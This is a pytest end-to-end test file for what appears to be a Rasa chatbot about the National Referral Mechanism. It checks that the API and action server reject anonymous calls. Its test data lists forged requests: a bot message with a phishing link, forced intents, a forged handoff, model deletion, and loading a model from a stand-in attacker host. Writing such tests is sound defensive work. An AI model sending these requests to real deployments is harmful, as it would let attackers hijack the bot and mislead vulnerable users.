"""Nothing open that need not be: Rasa's HTTP API and the action server refuse anonymous callers,
while the chat channels stay open to professionals."""

from __future__ import annotations

import json
import urllib.error
import urllib.request

import pytest

from tests.e2e.chat import Conversation

pytestmark = pytest.mark.e2e

ANONYMOUS_CALLS = [
    ("GET", "/status", None),
    ("GET", "/conversations/someone-elses-chat/tracker", None),
    ("POST", "/conversations/someone-elses-chat/tracker/events", {"event": "bot", "text": "Click http://phish.example"}),
    ("POST", "/conversations/someone-elses-chat/trigger_intent", {"name": "immediate_danger"}),
    ("POST", "/conversations/someone-elses-chat/execute", {"name": "action_submit_handoff"}),
    ("POST", "/model/parse", {"text": "hello"}),
    ("PUT", "/model", {"model_server": {"url": "http://attacker.example/model.tar.gz"}}),
    ("DELETE", "/model", None),
]


def status_of(method: str, url: str, body: object = None, headers: dict | None = None) -> int:
    data = json.dumps(body).encode() if body is not None else None
    request = urllib.request.Request(url, data=data, method=method, headers={"Content-Type": "application/json", **(headers or {})})
    try:
        with urllib.request.urlopen(request, timeout=30) as response:
            return response.status
    except urllib.error.HTTPError as error:
        return error.code


@pytest.mark.parametrize("method,path,body", ANONYMOUS_CALLS, ids=[f"{m} {p}" for m, p, _ in ANONYMOUS_CALLS])
def test_rasa_api_refuses_calls_without_the_token(bot, method, path, body):
    assert status_of(method, f"{bot.url}{path}", body) == 401
    assert status_of(method, f"{bot.url}{path}?token=guess", body) in (401, 403)


def test_the_model_is_still_loaded_and_the_chat_still_answers(bot):
    assert status_of("GET", bot.api("/status")) == 200
    assert "National Referral Mechanism" in Conversation(bot.url).reply("what is the nrm")


def test_the_action_server_refuses_an_anonymous_forged_handoff(bot):
    call = {"next_action": "action_submit_handoff", "sender_id": "forger", "tracker": {"sender_id": "forger", "events": [],
            "slots": {"handoff_reason": "immediate_danger"}}, "domain": {}}
    assert status_of("POST", f"http://127.0.0.1:{bot.action_port}/webhook", call) == 401
